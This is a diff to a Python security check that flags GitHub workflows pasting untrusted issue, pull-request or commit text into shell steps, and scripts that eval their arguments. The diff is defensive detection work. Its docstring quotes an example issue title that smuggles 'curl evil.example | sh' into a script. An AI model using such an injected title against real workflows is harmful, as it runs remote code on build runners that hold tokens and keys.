@@ -1,12 +1,11 @@
-"""Workflows that paste what strangers write into a shell script."""
+"""Workflows that paste what strangers write into a shell script, and scripts that evaluate what they are called with."""
 
 from __future__ import annotations
 
 import re
 from collections.abc import Iterator
 
-from aisecops.checks.configuration.subject import ConfigurationFile
-from aisecops.checks.configuration.telling import STARTING
+from aisecops.checks.configuration.scripts import SCRIPTS, Script, script_lines
 from aisecops.checks.references import COMMAND_INJECTION, COMMAND_INTERPRETER
 from aisecops.core.check import Context, check
 from aisecops.core.finding import Fix, Location, Weakness
@@ -19,24 +18,29 @@ _FROM_STRANGERS = (
     r"|pull_request\.head\.(ref|label|repo\.default_branch))|(commits\b[^}]*|head_commit)\.(message|author\.(name|email)))))\b[^}]*\}\}"
 )
 _TRUSTED = r"^\$\{\{\s*(toJSON|contains|startsWith|endsWith|format)\("
+_SHELL = re.compile(r"(?:\.(?:sh|bash|zsh|ksh|cgi)|/(?:docker-)?entrypoint)$")
+_EVALUATES = re.compile(r"(?:^|[;&|]\s*|\bthen\s+|\bdo\s+|\bsudo\s+)(?:eval|(?:/bin/)?(?:ba|z|k|da)?sh\s+-\w*c)\s+(?!--)(.*)")
+_PARAMETER = re.compile(r"\$(?:\{)?(?:[1-9*@]|QUERY_STRING\b|HTTP_[A-Z_]+\b)")
+_READ = re.compile(r"\bread\s+(?:-\w+\s+(?:\"[^\"]*\"\s+|'[^']*'\s+)?)*([A-Za-z_]\w*)\s*(?:$|[;&|])")
+_FUNCTION = re.compile(r"^\s*(?:function\s+[\w-]+\s*(?:\(\))?|[\w-]+\s*\(\))\s*\{?")
 _SCRIPT = r"^(\s*)(?:-\s+)?(?:run|script):\s*(\S.*)$"
 
 
 @check(
     id="configuration/shell-injection",
     title="Workflows paste no stranger's text into a script",
-    inputs=STARTING,
+    inputs=SCRIPTS,
     stage=Stage.CODE,
     threat=Threat.SUPPLY_CHAIN,
     categories=("shell-injection",),
     refs=(COMMAND_INJECTION, COMMAND_INTERPRETER),
 )
-def shell_injection(file: ConfigurationFile, ctx: Context) -> Iterator[Weakness]:
-    """Find GitHub workflows whose scripts hold titles, bodies, branches or messages that anybody can write.
+def shell_injection(file: Script, ctx: Context) -> Iterator[Weakness]:
+    """Find GitHub workflows whose scripts hold what anybody can write, and scripts that evaluate what they are given.
 
     What it finds
         ``${{ github.event.issue.title }}``, bodies of comments and pull requests, ``github.head_ref``, messages of commits, in ``run:`` (and in ``script:`` of
-        ``actions/github-script``).
+        ``actions/github-script``); and shell scripts that ``eval`` (or hand to ``sh -c``) what they are called with, what they ``read``, or what a web server passes on.
 
     Why it matters
         The text is put in before the shell reads the script: an issue called ``"; curl evil.example | sh; "`` runs on the runner, with its tokens and keys. In August
@@ -49,12 +53,13 @@ def shell_injection(file: ConfigurationFile, ctx: Context) -> Iterator[Weakness]
         Hand it over as a variable: ``env: {TITLE: "${{ github.event.pull_request.title }}"}`` and ``"$TITLE"`` in the script.
 
     Limits
-        Expressions in scripts of other build servers, and values that a step before hands on (``steps.x.outputs``), are not followed. What people with write access
-        type in (``inputs``) is passed over.
+        Functions of a script that evaluate their own parameters are left alone: the script calls them. Expressions in scripts of other build servers, and values
+        that a step before hands on (``steps.x.outputs``), are not followed. What people with write access type in (``inputs``) is passed over.
 
     References
         CWE-78; CWE-77; GitHub Security Lab: Untrusted input in workflows.
     """
+    yield from _evaluated(file)
     if re.search(_WORKFLOWS, file.asset.path) is None or "${{" not in file.text.content:
         return
     found: dict[str, list[Location]] = {}
@@ -74,6 +79,34 @@ def shell_injection(file: ConfigurationFile, ctx: Context) -> Iterator[Weakness]
             root_cause="shell-injection: workflow",
             fix=Fix('Set it as a variable under env: and write "$NAME" in the script.'),
         )
+
+
+def _evaluated(file: Script) -> Iterator[Weakness]:
+    """Yield where a shell script evaluates what it is called with, or what it reads."""
+    content = file.text.content
+    if (getattr(file, "language", "") != "shell" and not _SHELL.search(file.asset.path)) or ("eval" not in content and "sh -" not in content):
+        return
+    lines = script_lines(file)
+    read = {name for _, line in lines for name in _READ.findall(line)}
+    inside = False
+    for number, line in lines:
+        inside = (inside or _FUNCTION.match(line) is not None) and not line.startswith("}") and not line.rstrip().endswith("; }")
+        found = _EVALUATES.search(line)
+        if found is None or found[1].startswith("'"):
+            continue
+        parameter = not inside and _PARAMETER.search(found[1]) is not None
+        if parameter or any(re.search(rf"\$\{{?{name}\b", found[1]) for name in read):
+            yield Weakness(
+                category="shell-injection",
+                identity=("evaluated", inert(line.strip(), 80)),
+                title="A script evaluates what it is given",
+                message="What the script is called with, or reads, is read by the shell a second time: `;`, `$(...)` and the like in it are commands.",
+                severity=Severity.MEDIUM,
+                confidence=Confidence.MEDIUM,
+                locations=(Location(path=file.asset.path, line=number, column=found.start() + 1),),
+                root_cause="shell-injection: evaluated",
+                fix=Fix('Run the program by name with "$@" as its arguments; choose among commands with case.'),
+            )
 
 
 def _script_lines(content: str) -> Iterator[tuple[int, str]]:
